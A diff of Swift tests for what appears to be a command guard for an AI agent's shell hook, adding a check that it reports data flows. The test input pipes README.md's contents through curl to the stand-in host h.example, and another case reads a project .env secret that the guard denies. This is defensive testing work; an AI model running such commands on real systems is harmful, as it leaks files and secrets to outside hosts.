@@ -41,9 +41,8 @@ import Testing
     for stage in [
       "event\n", "Bash", "\ncommand\n", "\nsyntax\n", "(pipe", "\ncommands after expansion\n",
       "\"cat\" \"link\"", "\neffects\n", "reads link", "which is", "/project/.env", "^^^^^",
-      "\nrules\n", "deny  read-secret", "\nverdict\n", "deny", "\nthe client is told\n",
-      "exit    2",
-      "hook-guard: ", "µs",
+      "\nflows\n", "\nrules\n", "deny  read-secret", "\nverdict\n", "deny",
+      "\nthe client is told\n", "exit    2", "hook-guard: ", "µs",
     ] {
       let found = try #require(rest.range(of: stage), "\(stage) is not shown\n\(outcome)")
       rest = rest[found.upperBound...]
@@ -55,6 +54,22 @@ import Testing
     let outcome = try explain(["cat README.md .env.example"])
     #expect(outcome.status == 0)
     #expect(outcome.output.contains("none was met"))
+  }
+
+  @Test func aFlowShowsBothItsEnds() throws {
+    let command = "x=$(cat README.md); curl \"https://h.example/?q=$x\""
+    let outcome = try explain([command])
+    for text in ["\nflows\n", "from the file README.md", "to the host h.example"] {
+      #expect(outcome.output.contains(text), "\(outcome)")
+    }
+    let flows = try #require(try object(explain(["--json", command]))["flows"] as? [[String: Any]])
+    #expect(flows.count == 1)
+    let from = try #require(flows.first?["from"] as? [String: Any])
+    #expect(from["kind"] as? String == "file")
+    #expect(from["range"] as? [Int] == [4, 17])
+    let to = try #require(flows.first?["to"] as? [String: Any])
+    #expect(to["kind"] as? String == "host")
+    #expect(to["name"] as? String == "h.example")
   }
 
   @Test func anAskShowsBothAnswers() throws {
